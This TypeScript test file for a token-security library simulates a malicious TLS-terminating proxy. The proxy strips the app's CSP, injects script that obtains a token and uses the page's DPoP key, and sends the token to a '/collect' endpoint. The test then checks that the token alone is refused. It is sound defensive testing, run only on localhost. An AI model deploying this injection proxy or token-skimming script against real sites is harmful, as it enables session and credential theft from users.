/**
 * Threat table, "intermediary that serves the page's HTML or JavaScript": a proxy where TLS ends
 * that can change responses adds its own script to the page. That is script in the page: it runs
 * with the page's origin, asks TokenSec for a token exactly as the app does, and uses the page's
 * DPoP key while the page is open (an API call with a fresh proof is answered). Session binding
 * does not help, and a CSP sent by the app does not either when the proxy strips it. What it sends
 * away is the token alone, which the DPoP-protected API refuses without the key.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { SignJWT, jwtVerify } from 'jose';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import tokenSec from '../../src/index.js';
import { launchChromium } from '../support/chromium.js';
import { csrfApp, listen } from '../support/helpers.js';

const INJECTED = `<script>
(async () => {
  const token = await TokenSec.handshake({ uri: '/token' });
  const url = location.origin + '/api/me';
  const proof = await TokenSec.createDpopProof({ method: 'GET', url, accessToken: token });
  const api = await fetch(url, { headers: { authorization: 'DPoP ' + token, dpop: proof } });
  await fetch('/collect?t=' + encodeURIComponent(token) + '&api=' + api.status);
})();
</script>`;

const signingKey = new TextEncoder().encode('page-rewriting HMAC key, 32 byte');
let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser?.close());

it('the script it adds to the page gets a token and uses the page key while the page is open; the token alone is refused', async () => {
  const { app } = csrfApp(
    {
      payload: (_req, _res, { jkt }) =>
        new SignJWT({ sub: 'alice', cnf: { jkt } }).setProtectedHeader({ alg: 'HS256' }).setExpirationTime('5m').sign(signingKey),
    },
    '<!doctype html><title>app</title><script src="/tokensec.js"></script><p>the app</p>',
    (a) => {
      a.get('/api/me', tokenSec.dpop({ verifyToken: async (token) => (await jwtVerify(token, signingKey)).payload }), (_req, res) =>
        res.json({ ok: true }),
      );
    },
  );
  const upstream = await listen(app);
  const collected: { token: string; api: string }[] = [];
  // The intermediary: forwards everything, appends its script to HTML answers (dropping the app's CSP), keeps what the script sends.
  const proxy = http.createServer((req, res) => {
    if (req.url?.startsWith('/collect?')) {
      const query = new URL(req.url, 'http://proxy').searchParams;
      collected.push({ token: query.get('t') ?? '', api: query.get('api') ?? '' });
      res.writeHead(204).end();
      return;
    }
    const forward = http.request(`${upstream.origin}${req.url}`, { method: req.method, headers: req.headers }, (answer) => {
      const html = String(answer.headers['content-type']).startsWith('text/html');
      if (!html) {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
        return;
      }
      const chunks: Buffer[] = [];
      answer.on('data', (chunk: Buffer) => chunks.push(chunk));
      answer.on('end', () => {
        const body = Buffer.concat(chunks).toString() + INJECTED;
        const { 'content-length': _length, 'content-security-policy': _csp, etag: _etag, ...headers } = answer.headers;
        res.writeHead(answer.statusCode ?? 502, { ...headers, 'content-length': Buffer.byteLength(body) }).end(body);
      });
    });
    req.pipe(forward);
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
  const context = await browser.newContext();
  try {
    const tab = await context.newPage();
    await tab.goto(`${origin}/`);
    await expect.poll(() => collected.length, { timeout: 10_000 }).toBe(1);
    const [{ token, api } = { token: '', api: '' }] = collected;
    expect(token.split('.')).toHaveLength(3); // a token, from the page
    expect(api).toBe('200'); // and the page's key, used from the page
    // Sent away, the token alone is refused.
    expect((await fetch(`${upstream.origin}/api/me`, { headers: { authorization: `DPoP ${token}` } })).status).toBe(401);
  } finally {
    await context.close();
    await new Promise<void>((resolve) => proxy.close(() => resolve()));
    await upstream.close();
  }
});
